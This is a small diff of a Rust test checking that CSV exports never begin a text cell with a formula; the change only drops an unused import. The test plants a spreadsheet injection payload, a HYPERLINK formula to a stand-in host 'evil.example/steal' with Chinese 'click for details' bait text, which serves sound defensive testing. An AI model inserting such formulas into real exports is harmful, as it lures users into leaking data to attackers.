@@ -208,7 +208,6 @@ fn csv_cells(bytes: &[u8]) -> Vec<String> {
 /// numbers.
 #[actix_web::test]
 async fn csv_exports_never_start_a_text_cell_with_a_formula() {
-    use server::storage::Store;
     let s = TestServer::demo().await;
     let planted = "=HYPERLINK(\"http://evil.example/steal\",\"点击查看详情\")";
     let mut categories = sync_core::model::default_categories();
